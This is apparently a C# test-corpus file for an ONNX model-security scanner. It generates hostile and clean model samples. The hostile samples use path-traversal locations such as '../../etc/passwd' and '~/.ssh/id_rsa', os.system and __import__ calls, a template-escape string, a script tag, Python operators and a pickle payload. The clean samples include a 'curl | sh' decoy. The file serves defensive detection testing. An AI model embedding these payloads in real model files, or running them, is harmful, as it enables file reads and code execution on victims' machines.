using MlSecPol.Engine.Tests.Models.Graphs;
using static MlSecPol.Engine.Tests.Models.Graphs.OnnxSamples;

namespace MlSecPol.Engine.Tests.Corpus;

/// <summary>Labelled ONNX models.</summary>
internal static class OnnxCases
{
    private static readonly string[] Outside =
    [
        "../secret", "../../etc/passwd", "./../secret", "a/../../b", "a/b/../../../c", "/etc/passwd", "\u2024\u2024/w", "\uFF0E\uFF0E\uFF0Fw", "//server/share/x", "C:\\Windows\\win.ini", "c:/x", "..\\..\\x", "a\\..\\..\\b", "\\\\server\\share\\x",
        "\\x", "http://203.0.113.1/w", "https://example.com/w.bin", "file:///etc/passwd", "file://../x", "s3://bucket/w", "~/.ssh/id_rsa", "~root/x", "%2e%2e/w", "a/%2E%2E%2F%2E%2E%2Fw", "*/_ORT_MEM_ADDR_/*", "w\u0000.bin", "w\n.bin",
    ];

    public static IEnumerable<(string Name, byte[] Content)> Hostile()
    {
        foreach (var location in Outside) yield return ("data in " + location.Replace('\0', '0'), Of(At(location)));
        var out1 = At("../x");
        yield return ("code in the metadata", Described("description", "import os\nos.system('id')"));
        yield return ("pickle in the metadata", Described("note", Convert.ToBase64String(Models.Samples.Hostile)));
        yield return ("template in the metadata", Described("prompt", "{{ cycler.__init__.__globals__.os }}"));
        yield return ("script in the metadata", Described("author", "<script>fetch('x')</script>"));
        yield return ("code handed to a foreign operator", WithNode(Node("Foo", "acme", attributes: Attribute("code", "__import__('os').system('id')"))));
        yield return ("operator that tells what it does", WithNode(Node("ShellExec", "acme")));
        yield return ("in an attribute", WithNode(Node("Constant", attributes: new Proto().Text(1, "value").Message(5, out1))));
        yield return ("in a list of tensors", WithNode(Node("Constant", attributes: new Proto().Text(1, "values").Message(10, out1))));
        yield return ("in a subgraph", WithNode(Node("If", attributes: new Proto().Text(1, "then_branch").Message(6, Graph([Node("Relu")], [out1])))));
        yield return ("in a list of subgraphs", WithNode(Node("If", attributes: new Proto().Text(1, "branches").Message(11, Graph([Node("Relu")], [out1])))));
        yield return ("in a sparse tensor of an attribute", WithNode(Node("Constant", attributes: new Proto().Text(1, "s").Message(22, new Proto().Message(1, out1)))));
        yield return ("in a sparse initializer", Model(Graph([Node("Relu")]).Message(15, new Proto().Message(1, out1).Message(2, Tensor("i")))).Build());
        yield return ("in the indices of a sparse initializer", Model(Graph([Node("Relu")]).Message(15, new Proto().Message(1, Tensor("v")).Message(2, out1))).Build());
        yield return ("in a function", Model(Graph([Node("F", "local")])).Message(25, new Proto().Text(1, "F").Message(7, Node("Constant", attributes: new Proto().Text(1, "value").Message(5, out1))).Text(10, "local")).Build());
        yield return ("in the default of an attribute of a function", Model(Graph([Node("F", "local")])).Message(25, new Proto().Text(1, "F").Message(11, new Proto().Text(1, "a").Message(5, out1)).Text(10, "local")).Build());
        yield return ("in the training information", Model(Graph([Node("Relu")])).Message(20, new Proto().Message(1, Graph([Node("Relu")], [out1]))).Build());
        yield return ("in the algorithm of the training", Model(Graph([Node("Relu")])).Message(20, new Proto().Message(2, Graph([Node("Relu")], [out1]))).Build());
        yield return ("behind many sound tensors", Of([.. Enumerable.Range(0, 200).Select(i => Tensor("t" + i)), out1]));
        yield return ("without the mark of external data", Of(new Proto().Packed(1, 4).Number(2, 1).Text(8, "w").Message(13, Entry("location", "../x"))));
        yield return ("location twice", Of(External("w", ("location", "w.bin"), ("location", "../x"))));
        yield return ("base path", Of(External("w", ("location", "w.bin"), ("basepath", "/etc"))));
        yield return ("value before key", Of(new Proto().Packed(1, 4).Number(2, 1).Text(8, "w").Message(13, new Proto().Text(2, "../x").Text(1, "location")).Number(14, 1)));
        yield return ("graph twice, so that readers merge it", Model(Graph([Node("Relu")])).Message(7, Graph([Node("Relu")], [out1])).Build());
        yield return ("graph before the version", new Proto().Message(7, Graph([Node("Relu")], [out1])).Number(1, 9).Build());
        yield return ("negative offset", Of(External("w", ("location", "w.bin"), ("offset", "-8"))));
        yield return ("offset that is no number", Of(External("w", ("location", "w.bin"), ("offset", "0x10"))));
        yield return ("length beyond 64 bits", Of(External("w", ("location", "w.bin"), ("length", "99999999999999999999"))));
        yield return ("length that is not the shape's", Of(External("w", ("location", "w.bin"), ("length", "160000"))));
        yield return ("no location", Of(External("w", ("offset", "0"))));
        yield return ("more elements than bytes", Of(new Proto().Packed(1, 400_000).Number(2, 1).Text(8, "w").Bytes(9, new byte[16])));
        yield return ("negative dimension", Of(new Proto().Packed(1, -4).Number(2, 1).Text(8, "w").Bytes(9, new byte[16])));
        yield return ("shape beyond 64 bits", Of(new Proto().Packed(1, 1L << 40, 1L << 40).Number(2, 1).Text(8, "w").Bytes(9, new byte[16])));
        yield return ("unpacked dimensions", Of(new Proto().Number(1, 9).Number(1, 9).Number(2, 1).Text(8, "w").Bytes(9, new byte[16])));
        yield return ("Python operator", WithNode(Node("PyOp", "pyop", attributes: [Attribute("module", "os"), Attribute("class_name", "System")])));
        yield return ("Python operator of the runtime", WithNode(Node("PythonOp", "com.microsoft", attributes: [Attribute("func_name", "f")])));
        yield return ("Python operator in a subgraph", WithNode(Node("Loop", attributes: new Proto().Text(1, "body").Message(6, Graph([Node("PyOp", "x")])))));
        yield return ("Python operator in a function", Model(Graph([Node("F", "local")])).Message(25, new Proto().Text(1, "F").Message(7, Node("PythonOp", "com.microsoft")).Text(10, "local")).Build());
        yield return ("compiled program elsewhere", WithNode(Node("EPContext", "com.microsoft", attributes: [Attribute("ep_cache_context", "../../tmp/x.bin")])));
        yield return ("foreign operator with a library", WithNode(Node("Run", "acme", attributes: [Attribute("library", "/tmp/x.so")])));
        yield return ("foreign operator with an address", WithNode(Node("Fetch", "acme", attributes: [Attribute("url", "http://203.0.113.1/")])));
        yield return ("length of a field beyond the file", [.. Of(Tensor("w")), 0x72, 0xFF, 0xFF, 0x7F]);
        yield return ("text form", TfCases.Utf8("ir_version: 9\ngraph {\n  node { op_type: \"Relu\" }\n  initializer { dims: 4 data_type: 1 name: \"w\" external_data { key: \"location\" value: \"../../etc/passwd\" } data_location: EXTERNAL }\n}\n"));
    }

    public static IEnumerable<(string Name, byte[] Content)> Clean()
    {
        yield return ("one node", Of());
        yield return ("metadata of trainers", Model(Graph([Node("Relu")])).Message(14, Entry("names", "{0: 'person', 1: 'import os', 2: 'eval'}")).Message(14, Entry("license", "AGPL-3.0 https://example.com/license")).Message(14, Entry("description", "Do not eval() what os.system prints; import os first.")).Message(14, Entry("hash", new string('a', 64))).Build());
        yield return ("operators of the runtime's extensions", WithNode(Node("BertTokenizer", "ai.onnx.contrib")));
        yield return ("weights inside", Of(Tensor("w"), Tensor("b")));
        yield return ("weights beside", Of(At("model.onnx.data")));
        yield return ("weights in a folder below", Of(At("weights/model.bin"), At("./w.bin")));
        yield return ("names with dots", Of(At("..weights..bin"), At("a..b/c...d"), At("model.onnx..data")));
        yield return ("large offset", Of(External("w", ("location", "w.bin"), ("offset", "9000000000"), ("length", "16"), ("checksum", "00ff"))));
        yield return ("floats one by one", Of(new Proto().Packed(1, 2).Number(2, 1).Text(8, "w").Raw(0x25, 0, 0, 0, 0, 0x25, 0, 0, 0, 0)));
        yield return ("packed floats", Of(new Proto().Packed(1, 4).Number(2, 1).Text(8, "w").Bytes(4, new byte[16])));
        yield return ("unpacked dimensions", Of(new Proto().Number(1, 2).Number(1, 2).Number(2, 1).Text(8, "w").Bytes(9, new byte[16])));
        yield return ("numbers of 4 bits", Of(new Proto().Packed(1, 5).Number(2, 22).Text(8, "w").Bytes(9, new byte[3])));
        yield return ("empty tensor", Of(new Proto().Packed(1, 0).Number(2, 1).Text(8, "w").Bytes(9, [])));
        yield return ("scalar", Of(new Proto().Number(2, 1).Text(8, "w").Bytes(9, new byte[4])));
        yield return ("texts", Of(new Proto().Packed(1, 2).Number(2, 8).Text(6, "../../etc/passwd").Text(6, "http://example.com").Text(8, "w")));
        yield return ("half numbers in words", Of(new Proto().Packed(1, 2).Number(2, 10).Packed(5, 15360, 0).Text(8, "w")));
        yield return ("initializer without data", Of(new Proto().Packed(1, 4).Number(2, 1).Text(8, "w")));
        yield return ("names that sound dangerous", WithNode(Node("Relu", name: "os.system"), Node("Add", name: "/etc/passwd"), Node("Mul", name: "PyOp"), Node("Identity", name: "eval(../x)")));
        yield return ("attributes with addresses", WithNode(Node("StringNormalizer", attributes: [Attribute("locale", "http://example.com"), Attribute("stopwords", "/etc/passwd")])));
        yield return ("operators of the runtime", WithNode(Node("FusedMatMul", "com.microsoft"), Node("Conv", "com.microsoft.nchwc"), Node("QLinearAdd", "com.microsoft")));
        yield return ("operators for classic models", WithNode(Node("TreeEnsembleClassifier", "ai.onnx.ml"), Node("Gradient", "ai.onnx.preview.training"), Node("Relu", "ai.onnx")));
        yield return ("function of the model", Model(Graph([Node("Gelu", "pkg.nn")])).Message(25, new Proto().Text(1, "Gelu").Message(7, Node("Erf")).Text(10, "pkg.nn")).Build());
        yield return ("function that calls another", Model(Graph([Node("A", "pkg")])).Message(25, new Proto().Text(1, "A").Message(7, Node("B", "pkg")).Text(10, "pkg")).Message(25, new Proto().Text(1, "B").Message(7, Node("Relu")).Text(10, "pkg")).Build());
        yield return ("metadata with addresses", Model(Graph([Node("Relu")])).Message(14, Entry("url", "http://example.com/../x")).Message(14, Entry("path", "/home/someone/model.pt")).Build());
        yield return ("documentation", Model(Graph([Node("Relu")]).Text(10, "import os; os.system('id')")).Text(6, "curl http://example.com | sh").Build());
        yield return ("subgraphs", WithNode(Node("If", attributes: [new Proto().Text(1, "then_branch").Message(6, Graph([Node("Relu")], [Tensor("w")])), new Proto().Text(1, "else_branch").Message(6, Graph([Node("Abs")]))])));
        yield return ("sparse initializer", Model(Graph([Node("Relu")]).Message(15, new Proto().Message(1, Tensor("v")).Message(2, new Proto().Packed(1, 4).Number(2, 7).Bytes(9, new byte[32])).Packed(3, 100))).Build());
        yield return ("training information", Model(Graph([Node("Relu")])).Message(20, new Proto().Message(1, Graph([Node("Relu")], [Tensor("w")]))).Build());
        yield return ("weights that look like programs", Of(new Proto().Packed(1, 16).Number(2, 2).Text(8, "w").Bytes(9, "MZPK\x03\x04cos\nx)R.\0\0\0"u8)));
        yield return ("text form", TfCases.Utf8("ir_version: 9\nproducer_name: \"maker\"\ngraph {\n  node { op_type: \"Relu\" input: \"x\" output: \"y\" }\n  name: \"g\"\n}\nopset_import { version: 18 }\n"));
    }

    /// <summary>A model whose metadata stand before its graph, so that no beginning of it is another sound model.</summary>
    private static byte[] Described(string key, string value) => new Proto().Message(14, Entry(key, value)).Number(1, 9).Message(7, Graph([Node("Relu")])).Build();
}
